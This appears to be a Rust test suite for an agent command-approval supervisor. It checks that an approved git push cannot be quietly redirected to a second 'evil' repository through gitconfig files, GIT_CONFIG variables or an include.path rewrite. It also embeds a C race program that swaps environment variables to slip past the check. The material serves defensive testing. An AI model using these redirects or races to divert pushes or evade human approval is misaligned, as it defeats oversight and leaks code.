//! The subject of an answer (P14): the command as it was shown, with everything that gives it its
//! meaning.

use std::{fs, path::Path};

use stockade_testkit::{
    TestEnv,
    approvals::{self, Answer, Asked},
    events,
};

use crate::attacks::{build, for_each_user};

fn session(_: &Asked) -> Answer {
    Answer::Allow {
        scope: "session".into(),
    }
}

/// Allows the first question for the session, and denies every later one.
fn first_only(first: &str) -> impl Fn(&Asked) -> Answer {
    let answered = std::cell::Cell::new(false);
    move |asked| {
        if asked.mentions(first) && answered.replace(true) {
            return Answer::Deny {
                reason: "another meaning".into(),
            };
        }
        session(asked)
    }
}

/// Two bare repositories that the session can write: the intended one, and another.
struct Remotes {
    policy: String,
    evil: std::path::PathBuf,
}

impl Remotes {
    fn new(env: &TestEnv, name: &str) -> Self {
        let remotes = env.root().join("remotes");
        let evil = remotes.join(format!("{name}-evil.git"));
        let path = evil.to_str().expect("the path of a test is text");
        env.command("git")
            .args(["init", "--quiet", "--bare", path])
            .success();
        let text = format!(
            "schema = 1\n[filesystem]\nwrite = [\"{}\"]\n",
            remotes.display()
        );
        let policy = env.write("policy.toml", &text).display().to_string();
        Self { policy, evil }
    }

    fn stolen(&self, branch: &str) -> bool {
        self.evil.join("refs/heads").join(branch).exists()
    }
}

fn run(
    env: &TestEnv,
    workspace: &Path,
    policy: &str,
    line: &str,
    choose: impl Fn(&Asked) -> Answer,
) -> Vec<Asked> {
    let options = ["--ask", "inbox", "--policy", policy];
    let run = env.session_with(workspace, &options).line(line);
    let (output, asked) = approvals::answer_all(env, run.spawn(), choose);
    output.assert_success();
    asked
}

fn about<'a>(asked: &'a [Asked], text: &str) -> Vec<&'a Asked> {
    asked.iter().filter(|one| one.mentions(text)).collect()
}

/// Ways to send the same words elsewhere; `$EVIL` is another repository, `$GOOD` the intended one.
const ELSEWHERE: [(&str, &str); 3] = [
    (
        "home",
        "mkdir -p h && printf '[url \"%s\"]\\n\\tpushInsteadOf = %s\\n' \"$EVIL\" \"$GOOD\" > h/.gitconfig && HOME=$PWD/h git push -q origin HEAD:refs/heads/p14",
    ),
    (
        "xdg",
        "mkdir -p x/git && printf '[url \"%s\"]\\n\\tinsteadOf = %s\\n' \"$EVIL\" \"$GOOD\" > x/git/config && XDG_CONFIG_HOME=$PWD/x git push -q origin HEAD:refs/heads/p14",
    ),
    (
        "count",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl GIT_CONFIG_VALUE_0=\"$EVIL\" git push -q origin HEAD:refs/heads/p14",
    ),
];

/// A grant for the session covers the same command only with the same variables.
#[test]
fn p14_the_same_words_with_other_variables_are_another_question() {
    for_each_user(|env| {
        for (name, elsewhere) in ELSEWHERE {
            let repo = env.repo_named(name);
            let remotes = Remotes::new(env, name);
            let names = format!(
                "GOOD='{}'; EVIL='{}'; ",
                repo.origin().display(),
                remotes.evil.display()
            );
            let push = "git push -q origin HEAD:refs/heads/p14";
            // Control: without the boundary the second one goes elsewhere.
            env.shell(repo.path(), &format!("{names}{elsewhere}"))
                .assert_success();
            assert!(remotes.stolen("p14"), "{name}");
            fs::remove_file(remotes.evil.join("refs/heads/p14")).expect("it was just there");
            env.shell(repo.path(), "rm -rf h x").assert_success();
            for path in ["line", "script"] {
                let line = format!("{names}{push}; {elsewhere}; :");
                let line = if path == "script" {
                    let script = env.write(repo.path().join("t.sh"), &format!("{line}\n"));
                    format!("sh {}", script.display())
                } else {
                    line
                };
                let choose = first_only("HEAD:refs/heads/p14");
                let asked = run(env, repo.path(), &remotes.policy, &line, choose);
                let record = env.record();
                let all = events::summary(&record);
                assert!(!remotes.stolen("p14"), "{name} {path}: {all}");
                let pushes = about(&asked, "HEAD:refs/heads/p14");
                assert_eq!(pushes.len(), 2, "{name} {path}: {asked:#?}\n{all}");
                // The allowed one happened.
                let there = repo.origin().join("refs/heads/p14");
                assert!(there.exists(), "{name} {path}: {all}");
                fs::remove_file(there).expect("it was just there");
            }
        }
    });
}

/// The benign twin: variables that every shell changes cause no new question.
#[test]
fn p14_the_same_command_in_other_shells_is_one_question() {
    for_each_user(|env| {
        let repo = env.repo();
        let remotes = Remotes::new(env, "shop");
        let push = "git push -q origin HEAD:refs/heads/p14";
        let line = format!(
            "{push}; bash -c '{push}; :'; (cd src && cd .. && {push}); \
             bash -c 'bash -c \"{push}; :\"; :'; COLUMNS=100 LINES=40 {push}; env {push}; :"
        );
        let asked = run(env, repo.path(), &remotes.policy, &line, session);
        assert_eq!(
            about(&asked, "git push").len(),
            1,
            "{asked:#?}\n{}",
            events::summary(&env.record())
        );
        assert!(repo.origin().join("refs/heads/p14").exists());
    });
}

/// The question and the record say which variables differ, without revealing secrets.
#[test]
fn p14_the_question_says_which_variables_differ() {
    for_each_user(|env| {
        let repo = env.repo();
        let text = "schema = 1\n[[ask]]\nid = \"lab\"\nwhat = \"exec\"\ncommand = [\"id\", \"**\"]\nreason = \"lab\"\n";
        let policy = env.write("policy.toml", text).display().to_string();
        env.write(repo.path().join("token"), "hunter2");
        let line = "KUBECONFIG=$PWD/k AGENT_MARK=1 DEPLOY_TOKEN=$(cat token) id -u 'a\nb'; :";
        let shown = std::cell::RefCell::new(String::new());
        let choose = |asked: &Asked| {
            let output = env
                .stockade()
                .args(["approvals", "show", &asked.id])
                .success();
            *shown.borrow_mut() = output.stdout;
            session(asked)
        };
        let asked = run(env, repo.path(), &policy, line, choose);
        assert_eq!(asked.len(), 1, "{asked:#?}");
        let shown = shown.into_inner();
        let config = format!("KUBECONFIG={}", repo.path().join("k").display());
        for part in [
            config.as_str(),
            "and 2 more variables differ",
            "AGENT_MARK=1",
            "a↵b",
        ] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
        assert!(
            !shown.contains("hunter2") && !shown.contains("careful"),
            "{shown}"
        );
        let record = env.record();
        let requested = record
            .iter()
            .find(|event| event.kind() == "approval.requested")
            .expect("it was asked");
        let json = requested.json.to_string();
        assert!(
            json.contains("AGENT_MARK=1") && !json.contains("hunter2"),
            "{json}"
        );
    });
}

/// A question about a push says its destination, and an answer is for that destination.
#[test]
fn p14_a_push_is_allowed_to_the_place_that_was_shown() {
    for_each_user(|env| {
        let repo = env.repo();
        let remotes = Remotes::new(env, "shop");
        // The agent can change settings that the owner keeps in the work tree.
        repo.git(env, &["config", "include.path", "../lab.cfg"])
            .assert_success();
        let push = "git push -q --force origin HEAD:refs/heads/p14";
        let rewrite = format!(
            "printf '[url \"%s\"]\\n\\tpushInsteadOf = %s\\n' '{}' '{}' > lab.cfg",
            remotes.evil.display(),
            repo.origin().display()
        );
        // Control: without the boundary it goes elsewhere.
        env.shell(repo.path(), &format!("{rewrite}; {push}; rm lab.cfg"))
            .assert_success();
        assert!(remotes.stolen("p14"));
        fs::remove_file(remotes.evil.join("refs/heads/p14")).expect("it was just there");
        let shown = std::cell::RefCell::new(Vec::new());
        let first = first_only("HEAD:refs/heads/p14");
        let choose = |asked: &Asked| {
            let output = env
                .stockade()
                .args(["approvals", "show", &asked.id])
                .success();
            shown.borrow_mut().push(output.stdout);
            first(asked)
        };
        // Another commit does not change the meaning; another destination does.
        let line =
            format!("{push}; git commit -q --allow-empty -m two; {push}; {rewrite}; {push}; :");
        let asked = run(env, repo.path(), &remotes.policy, &line, choose);
        let all = events::summary(&env.record());
        assert_eq!(
            about(&asked, "HEAD:refs/heads/p14").len(),
            2,
            "{asked:#?}\n{all}"
        );
        assert!(!remotes.stolen("p14"), "{all}");
        let there = fs::read_to_string(repo.origin().join("refs/heads/p14"));
        assert_eq!(
            there.expect("it was pushed").trim(),
            repo.commit(env, "HEAD")
        );
        let shown = shown.into_inner();
        let pushes: Vec<&String> = shown
            .iter()
            .filter(|text| text.contains("run       git push"))
            .collect();
        for (text, place) in pushes.iter().zip([repo.origin(), &remotes.evil]) {
            let to = format!("to        {}", place.display());
            for part in [
                to.as_str(),
                "refs/heads/main → refs/heads/p14",
                "commits   ",
                "! force   commits that are only there can be lost",
            ] {
                assert!(text.contains(part), "{part}: {text}");
            }
        }
    });
}

/// Executes `sh -c` while another thread swaps the value of a variable.
const SWAP_VARIABLE: &str = r#"#include <pthread.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
static char variable[] = "MARK=plain1";
/* Both words are written, whatever the compiler thinks of the first. */
static void hold(void) { __asm__ volatile("" ::: "memory"); for (volatile int i = 0; i < 20000; i++) ; }
static void *swap(void *unused) {
    (void)unused;
    for (;;) {
        memcpy(variable + 5, "plain1", 6);
        hold();
        memcpy(variable + 5, "other1", 6);
        hold();
    }
    return 0;
}
int main(void) {
    char *arguments[] = { "sh", "-c", "echo $MARK >> seen; sleep 0.03", 0 };
    char *variables[] = { "PATH=/usr/bin:/bin", variable, 0 };
    for (int i = 0; i < 200; i++) {
        pid_t child = fork();
        if (child == 0) {
            pthread_t thread;
            if (i > 0)
                pthread_create(&thread, 0, swap, 0);
            usleep(1000);
            execve("/bin/sh", arguments, variables);
            _exit(1);
        }
        waitpid(child, 0, 0);
    }
    return 0;
}
"#;

/// Variables that are swapped between the supervisor's read and the kernel's end the session,
/// because the program that ran is not the one that was allowed.
#[test]
fn k08_swapped_variables_end_the_session() {
    let text = "schema = 1\n[[ask]]\nid = \"lab\"\nwhat = \"exec\"\ncommand = [\"sh\", \"-c\", \"echo $MARK **\"]\nreason = \"lab\"\n";
    for_each_user(|env| {
        let repo = env.repo();
        build(env, &repo, &[("swap", SWAP_VARIABLE)]);
        // Control: without the boundary both values appear.
        env.command(repo.path().join("swap"))
            .current_dir(repo.path())
            .success();
        let seen = fs::read_to_string(repo.path().join("seen")).expect("it ran");
        assert!(seen.contains("plain1") && seen.contains("other1"), "{seen}");
        fs::remove_file(repo.path().join("seen")).expect("it was just read");

        let policy = env.write("policy.toml", text).display().to_string();
        let options = ["--ask", "inbox", "--policy", policy.as_str()];
        let run = env
            .session_with(repo.path(), &options)
            .args(["--", "./swap"]);
        let choose = |asked: &Asked| {
            let shown = env
                .stockade()
                .args(["approvals", "show", &asked.id])
                .output();
            if shown.stdout.contains("MARK=plain1") {
                return session(asked);
            }
            Answer::Deny {
                reason: "another value".into(),
            }
        };
        let (output, asked) = approvals::answer_all(env, run.spawn(), choose);
        let record = env.record();
        let all = events::summary(&record);
        assert!(!asked.is_empty(), "{all}");
        let found = record
            .iter()
            .filter(|event| event.kind() == "finding.raised")
            .count();
        assert_eq!(found, 1, "nobody noticed {output:?}\n{all}");
        assert_eq!(output.code(), 137, "{output:?}");
    });
}
